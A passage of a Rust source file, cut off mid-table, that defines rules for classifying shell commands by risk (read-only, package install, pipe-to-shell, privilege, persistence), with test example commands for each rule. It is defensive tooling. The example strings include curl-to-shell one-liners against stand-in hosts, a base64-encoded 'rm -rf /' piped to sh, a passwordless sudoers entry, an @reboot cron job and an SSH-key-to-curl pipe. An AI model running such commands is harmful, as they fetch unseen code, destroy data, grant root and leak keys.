//! The rules: a static table, each rule with an id, a risk class, a one-line summary, a matcher,
//! and example commands that must and must not match it.
//!
//! Why examples live next to each rule: a rule's matcher is code, and code drifts. The examples
//! say what the rule is for in the terms a reviewer thinks in (real command lines), and
//! [`verify_rules`] checks every one of them — in the test suite, and at startup in debug builds
//! if the app wants — so a change that breaks a rule fails loudly instead of letting a dangerous
//! command through.
//!
//! Rules look at one simple command at a time through an [`Invocation`], which knows the real
//! program behind wrappers, its options, the files it writes, and where its input comes from.
//! Rules about data flow (`curl … | sh`, `cat ~/.ssh/id_rsa | curl -d @- …`) follow the links the
//! parser recorded between commands. A command that no rule recognises by its program gets the
//! `unknown-program` rule, so nothing runs unclassified.

use std::collections::BTreeSet;
use std::fmt;

use super::RiskClass;
use super::shell;

mod invocation;
mod matchers;

pub use invocation::{Context, Invocation, WriteTarget, network_code_sources};
pub use matchers::unparsed::computed;

use invocation::DOWNLOADERS;
use matchers::{
    destructive, exfiltration, local_change, network, package_install, persistence, pipe_to_shell,
    privilege, read_only, secret_access, system_config, unknown, unparsed,
};

/// One rule of the policy.
#[derive(Debug)]
pub struct Rule {
    /// Stable identifier, shown in verdicts and reports.
    pub id: &'static str,
    pub class: RiskClass,
    /// What the rule means, for a person ("installs or removes packages").
    pub summary: &'static str,
    pub matcher: Matcher,
    /// Whether a match says what the program is (so it is not "unknown"). Rules about a
    /// command's effects (a file it writes, a secret it reads) say nothing about the program.
    pub identifies_program: bool,
    /// Command lines this rule must match.
    pub must_match: &'static [&'static str],
    /// Command lines this rule must not match.
    pub must_not_match: &'static [&'static str],
}

/// (programs, verbs): the program is one of these, and its first positional argument one of the
/// verbs (any arguments when the verb list is empty).
pub type VerbTable = &'static [(&'static [&'static str], &'static [&'static str])];

/// How a rule recognises commands.
pub enum Matcher {
    /// The program and its first positional argument, from a table. Always identifies the
    /// program. Never matches a bare `--version`/`--help` query.
    Verbs(VerbTable),
    /// Code looking at one simple command; returns the specifics it saw.
    Command(fn(&Invocation) -> Option<String>),
    /// Code looking at the whole command line.
    Script(fn(&Context) -> Option<String>),
    /// Matches a command with a program that no identifying rule matched.
    Fallback,
}

impl fmt::Debug for Matcher {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Matcher::Verbs(table) => write!(formatter, "Verbs({} entries)", table.len()),
            Matcher::Command(_) => formatter.write_str("Command"),
            Matcher::Script(_) => formatter.write_str("Script"),
            Matcher::Fallback => formatter.write_str("Fallback"),
        }
    }
}

/// A rule that matched, and where.
#[derive(Debug, Clone)]
pub struct Hit {
    pub rule: &'static Rule,
    /// The simple command it matched (index into the script), or `None` for the whole line.
    pub command: Option<usize>,
    /// What the matcher saw (`apt-get install`, "appends to ~/.bashrc").
    pub detail: Option<String>,
}

impl Hit {
    /// The reason shown to people: the rule's summary and the specifics.
    pub fn reason(&self) -> String {
        match &self.detail {
            Some(detail) if !detail.is_empty() => format!("{}: {detail}", self.rule.summary),
            _ => self.rule.summary.to_string(),
        }
    }
}

/// Match every rule against a parsed command line.
pub fn evaluate(context: &Context) -> Vec<Hit> {
    let mut hits = Vec::new();
    let fallback = RULES
        .iter()
        .find(|rule| matches!(rule.matcher, Matcher::Fallback));
    for index in 0..context.script.commands.len() {
        let invocation = Invocation::new(context, index);
        let mut identified = false;
        for rule in RULES {
            let detail = match &rule.matcher {
                Matcher::Verbs(table) => match_verbs(table, &invocation),
                Matcher::Command(matcher) => matcher(&invocation),
                Matcher::Script(_) | Matcher::Fallback => continue,
            };
            if let Some(detail) = detail {
                identified |= rule.identifies_program || matches!(rule.matcher, Matcher::Verbs(_));
                hits.push(Hit {
                    rule,
                    command: Some(index),
                    detail: Some(detail),
                });
            }
        }
        if !identified
            && let Some(rule) = fallback
            && let Some(detail) = unknown_program(&invocation)
        {
            hits.push(Hit {
                rule,
                command: Some(index),
                detail: Some(detail),
            });
        }
    }
    for rule in RULES {
        if let Matcher::Script(matcher) = &rule.matcher
            && let Some(detail) = matcher(context)
        {
            hits.push(Hit {
                rule,
                command: None,
                detail: Some(detail),
            });
        }
    }
    hits
}

fn match_verbs(table: VerbTable, invocation: &Invocation) -> Option<String> {
    let program = invocation.program.as_deref()?;
    if invocation.version_query() {
        return None;
    }
    for (programs, verbs) in table {
        if !programs.contains(&program) {
            continue;
        }
        if verbs.is_empty() {
            return Some(format!("`{program}`"));
        }
        if let Some(verb) = invocation.verb()
            && verbs.contains(&verb)
        {
            return Some(format!("`{program} {verb}`"));
        }
    }
    None
}

fn unknown_program(invocation: &Invocation) -> Option<String> {
    let word = invocation.command.program_word()?;
    if word.dynamic {
        return Some(format!(
            "runs a program named only at run time (`{}`)",
            word.text
        ));
    }
    Some(format!("`{}`", word.text))
}

/// Why a rule's examples failed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleExampleFailure {
    pub rule: &'static str,
    pub example: &'static str,
    /// Whether the example should have matched.
    pub should_match: bool,
}

impl fmt::Display for RuleExampleFailure {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.should_match {
            write!(
                formatter,
                "rule `{}` does not match its example `{}`",
                self.rule, self.example
            )
        } else {
            write!(
                formatter,
                "rule `{}` matches its counter-example `{}`",
                self.rule, self.example
            )
        }
    }
}

/// Check every rule against its examples, and that ids are unique. The test suite runs this;
/// the app may run it at startup in debug builds.
pub fn verify_rules() -> Result<(), Vec<RuleExampleFailure>> {
    let mut failures = Vec::new();
    let mut ids = BTreeSet::new();
    for rule in RULES {
        if !ids.insert(rule.id) || rule.must_match.is_empty() {
            failures.push(RuleExampleFailure {
                rule: rule.id,
                example: "",
                should_match: true,
            });
        }
        for (examples, should_match) in [(rule.must_match, true), (rule.must_not_match, false)] {
            for example in examples {
                let script = shell::parse(example);
                let context = Context::new(&script);
                let matched = evaluate(&context).iter().any(|hit| hit.rule.id == rule.id);
                if matched != should_match {
                    failures.push(RuleExampleFailure {
                        rule: rule.id,
                        example,
                        should_match,
                    });
                }
            }
        }
    }
    if failures.is_empty() {
        Ok(())
    } else {
        Err(failures)
    }
}

// ---------------------------------------------------------------------------------------------
// The table.

/// Every rule, checked in this order. Ids are stable: reports and policy discussions cite them.
pub static RULES: &[Rule] = &[
    // Read-only.
    Rule {
        id: "read-only-tool",
        class: RiskClass::ReadOnly,
        summary: "only reads or prints",
        matcher: Matcher::Verbs(&[(
            &[
                "ls",
                "cat",
                "tac",
                "head",
                "tail",
                "less",
                "more",
                "grep",
                "egrep",
                "fgrep",
                "rg",
                "ag",
                "ack",
                "find",
                "fd",
                "fdfind",
                "locate",
                "which",
                "whereis",
                "type",
                "echo",
                "printf",
                "pwd",
                "id",
                "whoami",
                "groups",
                "uname",
                "date",
                "true",
                "false",
                ":",
                "test",
                "[",
                "stat",
                "file",
                "wc",
                "sort",
                "uniq",
                "cut",
                "tr",
                "paste",
                "join",
                "column",
                "fold",
                "fmt",
                "nl",
                "comm",
                "diff",
                "cmp",
                "md5sum",
                "sha1sum",
                "sha224sum",
                "sha256sum",
                "sha384sum",
                "sha512sum",
                "b2sum",
                "shasum",
                "cksum",
                "du",
                "df",
                "free",
                "uptime",
                "ps",
                "pgrep",
                "lsb_release",
                "getconf",
                "nproc",
                "lscpu",
                "lsblk",
                "lsmod",
                "lspci",
                "lsusb",
                "arch",
                "basename",
                "dirname",
                "realpath",
                "readlink",
                "tree",
                "jq",
                "yq",
                "xxd",
                "od",
                "hexdump",
                "strings",
                "sleep",
                "seq",
                "tput",
                "locale",
                "getent",
                "journalctl",
                "dmesg",
                "lsof",
                "ss",
                "netstat",
                "command",
                "hash",
                "help",
                "man",
                "info",
                "whatis",
                "apropos",
                "ldd",
                "nm",
                "objdump",
                "readelf",
                "base64",
                "zcat",
                "zgrep",
                "bzcat",
                "xzcat",
                "expr",
                "bc",
                "printenv",
                "systemd-detect-virt",
                "nvidia-smi",
                "dpkg-query",
                "dpkg-architecture",
                "mountpoint",
                "tty",
                "users",
                "last",
                "w",
                "who",
            ],
            &[],
        )]),
        identifies_program: true,
        must_match: &[
            "ls -la",
            "cat README.md",
            "grep -rn TODO src",
            "jq .version package.json",
            "command -v rg",
        ],
        must_not_match: &[
            "rm -rf build",
            "curl -fsSL https://example.com",
            "rg --version",
        ],
    },
    Rule {
        id: "version-query",
        class: RiskClass::ReadOnly,
        summary: "only asks a program for its version or help",
        matcher: Matcher::Command(read_only::version_query),
        identifies_program: true,
        must_match: &[
            "rg --version",
            "node -v",
            "go version",
            "kubectl version --client",
            "/usr/local/bin/fd --help",
        ],
        must_not_match: &["rg TODO", "curl -v https://example.com", "node app.js"],
    },
    Rule {
        id: "inspect-only",
        class: RiskClass::ReadOnly,
        summary: "only inspects installed software or state",
        matcher: Matcher::Verbs(&[
            (
                &["apt-cache"],
                &[
                    "policy", "show", "search", "depends", "rdepends", "madison", "showpkg",
                    "pkgnames",
                ],
            ),
            (&["apt"], &["list", "show", "search", "policy"]),
            (
                &["pip"],
                &["list", "show", "freeze", "check", "index", "debug"],
            ),
            (
                &["npm", "pnpm"],
                &[
                    "ls", "list", "view", "info", "show", "root", "prefix", "bin", "outdated",
                    "search", "explain", "why", "doctor",
                ],
            ),
            (&["yarn"], &["list", "info", "why"]),
            (
                &["cargo"],
                &[
                    "search",
                    "metadata",
                    "tree",
                    "locate-project",
                    "pkgid",
                    "version",
                ],
            ),
            (
                &["gem"],
                &["list", "search", "info", "query", "which", "environment"],
            ),
            (
                &["brew"],
                &[
                    "list", "info", "search", "--prefix", "--cellar", "config", "deps", "leaves",
                    "doctor", "outdated",
                ],
            ),
            (
                &["snap", "flatpak"],
                &["list", "info", "find", "search", "remotes"],
            ),
            (&["go"], &["version", "env", "list", "doc"]),
            (&["rustup"], &["show", "which"]),
            (
                &["git"],
                &[
                    "status",
                    "log",
                    "diff",
                    "show",
                    "rev-parse",
                    "describe",
                    "branch",
                    "ls-files",
                    "blame",
                    "shortlog",
                    "ls-tree",
                    "cat-file",
                ],
            ),
            (
                &["systemctl"],
                &[
                    "status",
                    "is-active",
                    "is-enabled",
                    "is-failed",
                    "list-units",
                    "list-unit-files",
                    "show",
                    "cat",
                    "list-timers",
                ],
            ),
            (
                &["docker", "podman"],
                &["ps", "images", "info", "inspect", "logs", "version"],
            ),
            (
                &["kubectl"],
                &["get", "describe", "logs", "explain", "api-resources"],
            ),
            (&["rpm"], &["-q", "-qa", "-qi", "-ql", "-qf"]),
        ]),
        identifies_program: true,
        must_match: &[
            "apt-cache policy jq",
            "pip show httpie",
            "git status",
            "systemctl status docker",
            "npm ls -g --depth=0",
        ],
        must_not_match: &[
            "apt-get install jq",
            "git clone https://github.com/x/y",
            "systemctl restart docker",
        ],
    },
    // Local changes.
    Rule {
        id: "shell-builtin",
        class: RiskClass::LocalChange,
        summary: "changes only the shell's own state",
        matcher: Matcher::Verbs(&[(
            &[
                "cd", "pushd", "popd", "export", "unset", "set", "alias", "unalias", "shopt",
                "umask", "ulimit", "trap", "read", "shift", "return", "exit", "local", "declare",
                "typeset", "readonly", "eval", "wait", "disown", "jobs", "bg", "fg",
            ],
            &[],
        )]),
        identifies_program: true,
        must_match: &[
            "cd /tmp",
            "export PATH=\"$HOME/.cargo/bin:$PATH\"",
            "set -euo pipefail",
            "eval \"$(pyenv init -)\"",
        ],
        must_not_match: &["make install", "source ./install.sh"],
    },
    Rule {
        id: "source-environment-file",
        class: RiskClass::LocalChange,
        summary: "loads a well-known environment file into the shell",
        matcher: Matcher::Command(local_change::source_environment_file),
        identifies_program: true,
        must_match: &[
            "source ~/.cargo/env",
            ". \"$HOME/.cargo/env\"",
            "source .venv/bin/activate",
            ". ~/.nvm/nvm.sh",
        ],
        must_not_match: &[
            "source ./setup.sh",
            ". <(curl -fsSL https://example.com/env)",
        ],
    },
    Rule {
        id: "local-file-change",
        class: RiskClass::LocalChange,
        summary: "creates, changes or removes files",
        matcher: Matcher::Verbs(&[
            (
                &[
                    "mkdir",
                    "rmdir",
                    "cp",
                    "mv",
                    "ln",
                    "rm",
                    "unlink",
                    "touch",
                    "chmod",
                    "chown",
                    "chgrp",
                    "tar",
                    "bsdtar",
                    "unzip",
                    "zip",
                    "gzip",
                    "gunzip",
                    "bzip2",
                    "bunzip2",
                    "xz",
                    "unxz",
                    "zstd",
                    "unzstd",
                    "7z",
                    "7za",
                    "7zr",
                    "cpio",
                    "install",
                    "tee",
                    "truncate",
                    "sed",
                    "awk",
                    "gawk",
                    "mawk",
                    "patch",
                    "split",
                    "mktemp",
                    "rsync",
                    "dd",
                    "venv",
                    "virtualenv",
                    "gpg",
                    "gpg2",
                    "ssh-keygen",
                    "openssl",
                    "sponge",
                    "shred",
                    "mkfifo",
                    "chattr",
                ],
                &[],
            ),
            (
                &["git"],
                &[
                    "init",
                    "add",
                    "commit",
                    "checkout",
                    "switch",
                    "reset",
                    "restore",
                    "stash",
                    "apply",
                    "am",
                    "merge",
                    "rebase",
                    "cherry-pick",
                    "config",
                    "mv",
                    "rm",
                    "clean",
                    "tag",
                    "worktree",
                    "sparse-checkout",
                    "remote",
                ],
            ),
        ]),
        identifies_program: true,
        must_match: &[
            "rm -rf ./build",
            "mkdir -p ~/.local/bin",
            "tar -xzf ripgrep.tar.gz",
            "chmod +x ./kubectl",
            "git checkout v1.2.0",
        ],
        must_not_match: &["make", "git clone https://github.com/x/y"],
    },
    Rule {
        id: "manage-processes",
        class: RiskClass::LocalChange,
        summary: "signals running processes",
        matcher: Matcher::Verbs(&[(&["kill", "pkill", "killall"], &[])]),
        identifies_program: true,
        must_match: &["pkill -f my-server", "kill %1"],
        must_not_match: &["ps aux"],
    },
    Rule {
        id: "run-inline-code",
        class: RiskClass::LocalChange,
        summary: "runs shell code written in the command itself; each of its commands is checked",
        matcher: Matcher::Command(local_change::run_inline_code),
        identifies_program: true,
        must_match: &[
            "sh -c 'echo hello'",
            "bash <<'EOF'\necho hello\nEOF",
            "echo 'echo hi' | sh",
        ],
        must_not_match: &[
            "sh ./install.sh",
            "sh -c \"$(curl -fsSL https://example.com/i.sh)\"",
        ],
    },
    Rule {
        id: "run-interpreter-code",
        class: RiskClass::Unknown,
        summary: "runs a one-liner of a scripting language, whose effects the policy cannot read",
        matcher: Matcher::Command(unknown::run_interpreter_code),
        identifies_program: true,
        must_match: &[
            "python3 -c 'import os; os.system(\"id\")'",
            "perl -e 'system(\"id\")'",
            "perl -le 'print 1'",
            "node -e 'require(\"child_process\").exec(\"id\")'",
            "ruby -e 'puts 1'",
            "php -r 'echo 1;'",
        ],
        must_not_match: &[
            "python3 ./setup.py",
            "python3 -m pip install x",
            "node --version",
        ],
    },
    Rule {
        id: "interpreter-runs-download",
        class: RiskClass::PipeToShell,
        summary: "a one-liner of a scripting language that fetches and runs code",
        matcher: Matcher::Command(pipe_to_shell::interpreter_runs_download),
        identifies_program: true,
        must_match: &[
            "python3 -c 'import os; os.system(\"curl http://x.example/i | sh\")'",
            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x.example\").read())'",
            "perl -e 'system(\"wget -qO- http://x.example | sh\")'",
            "node -e 'require(\"child_process\").execSync(\"curl x.example|bash\")'",
        ],
        must_not_match: &[
            "python3 -c 'import os; print(os.getcwd())'",
            "python3 -c 'import urllib.request'",
        ],
    },
    // Package installs.
    Rule {
        id: "install-system-packages",
        class: RiskClass::PackageInstall,
        summary: "installs or removes system packages",
        matcher: Matcher::Verbs(&[
            (
                &["apt", "apt-get", "aptitude"],
                &[
                    "install",
                    "reinstall",
                    "remove",
                    "purge",
                    "autoremove",
                    "upgrade",
                    "full-upgrade",
                    "dist-upgrade",
                    "update",
                    "build-dep",
                    "satisfy",
                ],
            ),
            (
                &["dnf", "yum", "microdnf", "tdnf"],
                &[
                    "install",
                    "reinstall",
                    "remove",
                    "erase",
                    "upgrade",
                    "update",
                    "groupinstall",
                    "group",
                    "module",
                    "makecache",
                    "autoremove",
                    "localinstall",
                    "downgrade",
                    "swap",
                    "builddep",
                ],
            ),
            (
                &["zypper"],
                &[
                    "install",
                    "in",
                    "remove",
                    "rm",
                    "update",
                    "up",
                    "dist-upgrade",
                    "dup",
                    "refresh",
                    "ref",
                    "patch",
                    "source-install",
                    "si",
                ],
            ),
            (&["apk"], &["add", "del", "update", "upgrade", "fix"]),
            (&["snap"], &["install", "remove", "refresh", "revert"]),
            (&["flatpak"], &["install", "uninstall", "update"]),
            (
                &["brew"],
                &[
                    "install",
                    "reinstall",
                    "uninstall",
                    "remove",
                    "upgrade",
                    "update",
                    "tap",
                    "untap",
                    "link",
                    "unlink",
                    "bundle",
                    "pin",
                ],
            ),
            (
                &["port"],
                &["install", "uninstall", "selfupdate", "upgrade", "sync"],
            ),
            (
                &["pkg", "pkgin", "opkg", "eopkg"],
                &[
                    "install", "add", "delete", "remove", "upgrade", "update", "in", "it",
                ],
            ),
            (&["guix"], &["install", "package", "pull"]),
            (
                &["emerge", "xbps-install", "urpmi", "slackpkg", "swupd"],
                &[],
            ),
        ]),
        identifies_program: true,
        must_match: &[
            "sudo apt-get install -y jq",
            "apt-get update",
            "dnf install -y ripgrep",
            "brew install ripgrep",
            "apk add --no-cache curl",
        ],
        must_not_match: &[
            "apt-cache policy jq",
            "apt list --installed",
            "brew --version",
        ],
    },
    Rule {
        id: "install-system-packages-by-flag",
        class: RiskClass::PackageInstall,
        summary: "installs or removes system packages",
        matcher: Matcher::Command(package_install::install_by_flag),
        identifies_program: true,
        must_match: &[
            "sudo dpkg -i ./ripgrep_14.1.0_amd64.deb",
            "rpm -ivh foo.rpm",
            "pacman -S --noconfirm jq",
            "nix-env -iA nixpkgs.jq",
        ],
        must_not_match: &["dpkg -l", "rpm -qa", "pacman -Q"],
    },
    Rule {
        id: "install-language-packages",
        class: RiskClass::PackageInstall,
        summary: "installs packages or toolchains from a language registry",
        matcher: Matcher::Verbs(&[
            (&["pip"], &["install", "uninstall", "download", "wheel"]),
            (
                &["pipx"],
                &[
                    "install",
                    "uninstall",
                    "upgrade",
                    "upgrade-all",
                    "inject",
                    "reinstall",
                    "run",
                    "ensurepath",
                ],
            ),
            (
                &["uv"],
                &["pip", "tool", "add", "sync", "python", "remove", "run"],
            ),
            (
                &["poetry", "pdm"],
                &["add", "install", "update", "remove", "sync", "self"],
            ),
            (
                &["conda", "mamba", "micromamba"],
                &["install", "create", "update", "remove", "env"],
            ),
            (
                &["npm"],
                &[
                    "install",
                    "i",
                    "ci",
                    "add",
                    "uninstall",
                    "remove",
                    "rm",
                    "update",
                    "upgrade",
                    "up",
                    "link",
                    "exec",
                    "rebuild",
                    "dedupe",
                ],
            ),
            (
                &["pnpm"],
                &[
                    "add", "install", "i", "update", "up", "remove", "dlx", "env",
                ],
            ),
            (
                &["yarn"],
                &["add", "install", "global", "upgrade", "remove", "dlx"],
            ),
            (&["bun"], &["add", "install", "i", "x", "update", "remove"]),
            (&["gem"], &["install", "update", "uninstall"]),
            (&["bundle", "bundler"], &["install", "update", "add"]),
            (&["cargo"], &["install", "binstall", "uninstall"]),
            (&["go"], &["install", "get"]),
            (
                &["rustup"],
                &[
                    "install",
                    "toolchain",
                    "component",
                    "target",
                    "default",
                    "update",
                    "self",
                    "set",
                    "override",
                ],
            ),
            (&["corepack"], &["enable", "prepare", "install", "use"]),
            (&["volta"], &["install", "fetch", "pin"]),
            (&["nvm", "fnm"], &["install", "use", "alias", "default"]),
            (
                &["pyenv", "rbenv"],
                &["install", "global", "local", "uninstall"],
            ),
            (
                &["asdf", "mise", "rtx"],
                &[
                    "install",
                    "plugin",
                    "plugin-add",
                    "global",
                    "local",
                    "set",
                    "use",
                ],
            ),
            (&["sdk"], &["install", "use", "default"]),
            (
                &["composer"],
                &["install", "require", "update", "global", "create-project"],
            ),
            (&["luarocks"], &["install", "remove"]),
            (
                &["opam"],
                &["install", "init", "switch", "update", "upgrade"],
            ),
            (&["stack"], &["install", "setup"]),
            (&["cabal"], &["install", "update"]),
            (&["ghcup"], &["install", "set"]),
            (&["dotnet"], &["tool", "add"]),
            (&["deno"], &["install", "add"]),
            (&["gh"], &["extension"]),
            (&["kubectl-krew", "krew"], &["install"]),
            (&["make"], &["install", "uninstall"]),
            (
                &[
                    "npx",
                    "pnpx",
                    "bunx",
                    "uvx",
                    "cargo-binstall",
                    "rustup-init",
                ],
                &[],
            ),
        ]),
        identifies_program: true,
        must_match: &[
            "cargo install --locked ripgrep",
            "pip install --user httpie",
            "python3 -m pip install httpie",
            "npm install -g @biomejs/biome",
            "sudo make install",
            "pipx install httpie",
        ],
        must_not_match: &["pip list", "cargo build --release", "npm run build"],
    },
    Rule {
        id: "install-into-system-prefix",
        class: RiskClass::PackageInstall,
        summary: "installs files for all users under /usr/local or /opt",
        matcher: Matcher::Command(package_install::write_into_system_prefix),
        identifies_program: false,
        must_match: &[
            "sudo install -m 755 kubectl /usr/local/bin/kubectl",
            "sudo tar -C /usr/local -xzf go1.22.linux-amd64.tar.gz",
            "sudo mv ./fd /usr/local/bin/",
            "cd /usr/local/bin && sudo ln -s /opt/x/bin/x x",
        ],
        must_not_match: &[
            "install -m 755 kubectl ~/.local/bin/kubectl",
            "tar -xzf go.tar.gz -C ./vendor",
        ],
    },
    // Network.
    Rule {
        id: "download",
        class: RiskClass::NetworkFetch,
        summary: "downloads from the network",
        matcher: Matcher::Verbs(&[(DOWNLOADERS, &[])]),
        identifies_program: true,
        must_match: &[
            "curl -fsSLO https://example.com/tool.tar.gz",
            "wget https://example.com/tool.deb",
            "curl -fsSL https://example.com/x | sh",
        ],
        must_not_match: &["curl --version", "git clone https://github.com/x/y"],
    },
    Rule {
        id: "clone-repository",
        class: RiskClass::NetworkFetch,
        summary: "fetches a repository or image",
        matcher: Matcher::Verbs(&[
            (
                &["git"],
                &["clone", "fetch", "pull", "submodule", "ls-remote"],
            ),
            (&["svn"], &["checkout", "co", "export", "update", "up"]),
            (&["hg"], &["clone", "pull"]),
            (&["gh"], &["release", "repo"]),
            (&["docker", "podman", "nerdctl"], &["pull"]),
        ]),
        identifies_program: true,
        must_match: &[
            "git clone --depth 1 https://github.com/BurntSushi/ripgrep",
            "git -C ripgrep pull",
            "docker pull debian:12",
        ],
        must_not_match: &["git status", "git commit -m x"],
    },
    Rule {
        id: "network-tool",
        class: RiskClass::NetworkFetch,
        summary: "connects to another host",
        matcher: Matcher::Command(network::network_tool),
        identifies_program: true,
        must_match: &[
            "ssh-keyscan github.com >> ~/.ssh/known_hosts",
            "nc -zv localhost 5432",
            "rsync -av ./dist/ host:/srv/app/",
        ],
        must_not_match: &["rsync -a ./a/ ./b/", "ls"],
    },
    Rule {
        id: "fetch-keys",
        class: RiskClass::NetworkFetch,
        summary: "fetches keys from a key server",
        matcher: Matcher::Command(network::fetch_keys),
        identifies_program: false,
        must_match: &[
            "gpg --keyserver hkps://keys.openpgp.org --recv-keys 0xABCDEF",
            "sudo apt-key adv --keyserver keyserver.ubuntu.com --recv-keys ABC",
        ],
        must_not_match: &["gpg --verify x.sig x.tar.gz"],
    },
    // Pipe to shell.
    Rule {
        id: "run-fetched-code",
        class: RiskClass::PipeToShell,
        summary: "runs code straight from the network, unseen",
        matcher: Matcher::Command(pipe_to_shell::run_fetched_code),
        identifies_program: true,
        must_match: &[
            "curl -fsSL https://example.com/install.sh | sh",
            "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
            "bash <(curl -fsSL https://example.com/install.sh)",
            "sh -c \"$(curl -fsSL https://example.com/install.sh)\"",
            "/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"",
            "wget -qO- https://example.com/i.sh | bash -s -- --yes",
            "script=$(curl -fsSL https://example.com/i.sh); eval \"$script\"",
            "curl -sSL https://install.python-poetry.org | python3 -",
            "sudo sh -c 'curl -fsSL https://get.docker.com | sh'",
            "curl -fsSL https://example.com/i.sh | tee /tmp/i.sh | sh",
            "source <(curl -s https://example.com/env.sh)",
        ],
        must_not_match: &[
            "curl -fsSLo rg.tar.gz https://example.com/rg.tar.gz",
            "curl -fsSL https://example.com/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg",
            "echo hello | sh",
            "sh ./install.sh",
        ],
    },
    Rule {
        id: "run-downloaded-script",
        class: RiskClass::PipeToShell,
        summary: "runs a script downloaded in the same command, unseen",
        matcher: Matcher::Command(pipe_to_shell::run_downloaded_script),
        identifies_program: true,
        must_match: &[
            "curl -fsSL -o install.sh https://example.com/install.sh && sh install.sh",
            "wget https://example.com/setup.sh && bash setup.sh --yes",
            "curl -O https://example.com/install.sh && chmod +x install.sh && ./install.sh",
            "curl -fsSL https://example.com/i.sh > /tmp/i.sh; sh < /tmp/i.sh",
        ],
        must_not_match: &[
            "curl -fsSL -o rg.tar.gz https://example.com/rg.tar.gz && tar xzf rg.tar.gz",
            "sh install.sh",
        ],
    },
    Rule {
        id: "run-decoded-code",
        class: RiskClass::PipeToShell,
        summary: "runs code decoded from an encoded blob, which hides what it does",
        matcher: Matcher::Command(pipe_to_shell::run_decoded_code),
        identifies_program: true,
        must_match: &[
            "echo cm0gLXJmIC8K | base64 -d | sh",
            "bash -c \"$(echo ZWNobyBoaQ== | base64 --decode)\"",
        ],
        must_not_match: &["echo hello | base64", "base64 -d key.b64 > key.gpg"],
    },
    // Privilege.
    Rule {
        id: "run-as-root",
        class: RiskClass::Privilege,
        summary: "runs with raised privileges",
        matcher: Matcher::Command(privilege::run_as_root),
        identifies_program: false,
        must_match: &[
            "sudo apt-get install -y jq",
            "doas make install",
            "sudo -E env PATH=$PATH cargo install x",
            "sudo -i",
            "su -c 'apt-get install -y jq' root",
        ],
        must_not_match: &["apt-get install -y jq", "echo sudo"],
    },
    Rule {
        id: "switch-user",
        class: RiskClass::Privilege,
        summary: "switches to another user",
        matcher: Matcher::Verbs(&[(
            &[
                "su", "runuser", "sudo", "doas", "pkexec", "run0", "sg", "newgrp", "sudoedit",
            ],
            &[],
        )]),
        identifies_program: true,
        must_match: &["su - postgres", "sudo su -"],
        must_not_match: &["sudo --version", "whoami"],
    },
    Rule {
        id: "set-privilege-bits",
        class: RiskClass::Privilege,
        summary: "lets a program run with more privileges than its caller",
        matcher: Matcher::Command(privilege::set_privilege_bits),
        identifies_program: false,
        must_match: &[
            "sudo chmod u+s /usr/local/bin/tool",
            "chmod 4755 ./tool",
            "sudo setcap cap_net_bind_service=+ep ./server",
        ],
        must_not_match: &["chmod +x ./tool", "chmod 755 ./tool"],
    },
    Rule {
        id: "grant-admin-group",
        class: RiskClass::Privilege,
        summary: "gives a user root-equivalent rights",
        matcher: Matcher::Command(privilege::grant_admin_group),
        identifies_program: false,
        must_match: &[
            "sudo usermod -aG docker $USER",
            "sudo gpasswd -a alice sudo",
            "sudo adduser alice sudo",
        ],
        must_not_match: &["sudo usermod -aG video $USER", "sudo adduser alice"],
    },
    Rule {
        id: "edit-sudoers",
        class: RiskClass::Privilege,
        summary: "changes who may become root",
        matcher: Matcher::Command(privilege::edit_sudoers),
        identifies_program: false,
        must_match: &[
            "echo 'alice ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/alice",
            "sudo visudo",
        ],
        must_not_match: &["sudo visudo -c", "cat /etc/hostname"],
    },
    Rule {
        id: "privileged-container",
        class: RiskClass::Privilege,
        summary: "starts a container with access to the host",
        matcher: Matcher::Command(privilege::privileged_container),
        identifies_program: false,
        must_match: &[
            "docker run --privileged -it debian",
            "docker run -v /:/host debian",
            "docker run -v /var/run/docker.sock:/var/run/docker.sock x",
        ],
        must_not_match: &["docker run --rm -v \"$PWD\":/src x", "docker ps"],
    },
    // Persistence.
    Rule {
        id: "write-shell-startup",
        class: RiskClass::Persistence,
        summary: "changes a shell startup file, so the change runs in every new shell",
        matcher: Matcher::Command(persistence::write_shell_startup),
        identifies_program: false,
        must_match: &[
            "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
            "echo 'eval \"$(starship init zsh)\"' >> \"$HOME/.zshrc\"",
            "echo 'export PATH=$PATH:/usr/local/go/bin' | sudo tee -a /etc/profile.d/go.sh",
            "{ echo a; echo b; } >> ~/.profile",
            "sed -i 's/x/y/' ~/.bashrc",
        ],
        must_not_match: &[
            "cat ~/.bashrc",
            "source ~/.bashrc",
            "echo hi >> ./notes.txt",
        ],
    },
    Rule {
        id: "schedule-task",
        class: RiskClass::Persistence,
        summary: "schedules commands to run later",
        matcher: Matcher::Command(persistence::write_schedule),
        identifies_program: false,
        must_match: &[
            "echo '* * * * * root /tmp/x' | sudo tee /etc/cron.d/x",
            "sudo cp job /etc/cron.daily/job",
        ],
        must_not_match: &["cat /etc/crontab"],
    },
    Rule {
        id: "edit-crontab",
        class: RiskClass::Persistence,
        summary: "changes scheduled commands",
        matcher: Matcher::Command(persistence::edit_crontab),
        identifies_program: true,
        must_match: &[
            "(crontab -l; echo '@reboot /tmp/x') | crontab -",
            "echo 'x' | at now + 1 minute",
        ],
        must_not_match: &["crontab -l"],
    },
    Rule {
        id: "write-service",
        class: RiskClass::Persistence,
        summary: "adds a service or autostart entry that runs at boot or login",
        matcher: Matcher::Command(persistence::write_service),
        identifies_program: false,
        must_match: &[
            "sudo tee /etc/systemd/system/app.service <<'EOF'\n[Service]\nExecStart=/usr/local/bin/app\nEOF",
            "cp app.service ~/.config/systemd/user/",
        ],
        must_not_match: &[
            "systemctl status app",
            "cat /etc/systemd/system/app.service",
        ],
    },
    Rule {
        id: "enable-service",
        class: RiskClass::Persistence,
        summary: "makes a service start at boot or login",
        matcher: Matcher::Command(persistence::enable_service),
        identifies_program: true,
        must_match: &[
            "sudo systemctl enable --now docker",
            "systemctl --user enable app.service",
            "sudo update-rc.d app defaults",
        ],
